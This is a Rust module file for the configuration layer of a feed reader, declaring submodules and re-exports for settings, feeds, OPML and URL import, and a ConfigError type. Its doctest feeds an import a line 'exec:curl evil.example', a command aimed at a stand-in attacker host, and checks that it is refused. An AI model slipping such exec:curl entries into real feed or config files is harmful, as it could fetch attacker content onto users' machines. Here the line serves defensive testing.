//! Settings, subscriptions and keys: the built-in files with the user's merged over them; the files of other readers.
//!
//! What is wrong in a file is told with line and column and is as if it were not there; a file is changed only on the
//! user's command, and keeps its comments. Programs that an imported file names are never run.
//!
//! *Never here*: the cache, the network, the screen. *The next option* is an entry of `settings`, a line with its
//! comment in `assets/config.toml` and a sentence in `assets/locales`; *the next format of another reader* a file beside
//! `opml` and `urls`.
//!
//! ```
//! use dateline::config;
//!
//! let folder = tempfile::tempdir().unwrap();
//! let urls = b"https://harbour.example/feed sea \"~Harbour Radio\"\n\"exec:curl evil.example\"\n";
//! let brought = config::import_feeds(folder.path(), "urls", urls).unwrap();
//! assert_eq!((brought.added, brought.refused.len()), (1, 1));
//! let feeds = config::load_feeds(folder.path());
//! assert_eq!(feeds.feeds[0].title, "Harbour Radio");
//! assert!(config::export_opml(&feeds).contains("xmlUrl=\"https://harbour.example/feed\""));
//! ```

mod access;
mod account_edit;
mod accounts;
mod add;
mod address;
mod brought;
mod change;
mod choices;
mod colours;
mod edit;
mod fault;
mod feeds;
mod file;
mod folders;
mod import;
mod keep;
mod keys;
mod opml;
mod option;
mod options;
mod packs;
mod replace;
mod rules;
mod saved_session;
mod sentence;
mod settings;
mod share;
mod sites;
mod stated;
mod subscription;
mod summarize;
mod tables;
mod themes;
mod titles;
mod translate;
mod urls;

pub use add::{Added, NewFeed, Reason, add_feed};
pub use address::folded;
pub use change::{FeedsChange, ListedFeed, ListedPack, Subscriptions, change_feeds, list_packs, list_subscriptions};
pub use choices::{Bidi, Digits, InterfaceLanguage, ListDensity, MarkRead, Pictures, Symbols, ThemeChoice};
pub use colours::{Colour, Depth, contrast};
pub use edit::{BeforeChange, FeedsEdit, take_back};
pub use fault::{EntryFault, Expected, Fault, FileFault, ImportFault, KeyFault};
pub use feeds::{FILE as FEEDS_FILE, FeedsFile, is_built_in, load_feeds};
pub use folders::Folders;
pub use import::{Imported, import_feeds};
pub use keep::{OptionValue, keep_option};
pub use keys::{KeyLine, load_keys};
pub use opml::export_opml;
pub use options::{choices, holds_from_start, set_option};
pub use packs::{Pack, packs};
pub use replace::NewFile;
pub use saved_session::{SavedSession, load_session, save_session};
pub use sentence::distance;
pub use settings::{Settings, documented, effective, load_settings};
pub use share::{ShareTarget, load_share_targets};
pub use sites::{built_in_sites, load_sites};
pub use summarize::{Summarizer, SummarizerKind, load_summarizer};
pub use themes::{Colours, Theme, load_themes};
pub use titles::Titles;
pub use translate::{Engine, EngineKind, Translate, languages_read, load_translate};
pub use urls::export_urls;

use crate::model::{Message, ToMessage};
use crate::words::Words;

/// Why a file of the user's could not be used: file, line and column, what was expected.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{}", Words::english().message(&self.message()))]
pub struct ConfigError {
    /// Path of the file; empty when the fault names what it is of.
    pub file: String,
    /// Line, when known.
    pub line: Option<usize>,
    /// Column in characters, when known.
    pub column: Option<usize>,
    /// What is wrong and what is expected.
    pub fault: Fault,
}

impl ConfigError {
    fn of(file: String, fault: impl Into<Fault>) -> Self {
        Self { file, line: None, column: None, fault: fault.into() }
    }
}

impl ToMessage for ConfigError {
    /// The place and what is wrong there.
    fn message(&self) -> Message {
        let fault = self.fault.message();
        if self.file.is_empty() {
            return fault;
        }
        fault.at(format!("{}{}{}", self.file, place(self.line), place(self.column)))
    }
}

fn place(number: Option<usize>) -> String {
    number.map(|number| format!(":{number}")).unwrap_or_default()
}
